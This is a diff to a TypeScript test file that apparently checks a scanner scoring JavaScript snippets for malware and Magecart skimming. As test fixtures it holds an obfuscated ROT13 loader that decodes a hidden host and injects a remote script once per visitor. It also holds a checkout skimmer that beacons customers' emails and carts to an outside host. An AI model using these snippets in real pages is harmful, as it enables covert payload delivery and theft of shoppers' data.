@@ -17,6 +17,10 @@ function summaryOf(source: string): Readonly<Record<string, number>> {
   )
 }
 
+/** Loads a script whose host is hidden, unless a cookie is set. */
+const hiddenHost = (sets: string): string =>
+  `(function(){function r(s){return s.replace(/[a-z]/gi,function(c){return String.fromCharCode(c.charCodeAt(0)+(c.toLowerCase()<'n'?13:-13))})}var i=['uggc:','//jvqt','rgybnq','re.pbz/n.wf'];for(var k=0;k<i.length;k++)i[k]=r(i[k]);if(!document.cookie.match(/seen=1/)){var s=document.createElement('script');s.src=i[0]+i[1]+i[2]+i[3];document.head.appendChild(s);${sets}}})()`
+
 test.each<[name: string, source: string, expected: Readonly<Record<string, number>>]>([
   ['nothing', `document.title='a'`, {}],
   [
@@ -28,6 +32,20 @@ test.each<[name: string, source: string, expected: Readonly<Record<string, numbe
     'a suggestive finding counts half',
     `document.querySelector('#checkout_email').addEventListener('blur',function(){if(this.checkValidity())navigator.sendBeacon('https://carts.mail.example/left',JSON.stringify({email:this.value,cart:window.CART}))})`,
     { 'findings of magecart': 0.5, findings: 0.25 },
+  ],
+  [
+    'a script of a hidden host, once for each visitor',
+    hiddenHost(
+      `var d=new Date();d.setTime(d.getTime()+2592e5);document.cookie='seen=1; expires='+d.toUTCString()`,
+    ),
+    { 'findings of malware': 1, findings: 0.25 },
+  ],
+  [
+    'a script of a hidden host, until the visitor has made a choice',
+    hiddenHost(
+      `document.querySelector('#no').onclick=function(){document.cookie='seen=1; expires='+new Date()}`,
+    ),
+    {},
   ],
 ])('findings as features of the model: %s', (_, source, expected) => {
   expect(summaryOf(source)).toEqual(expected)
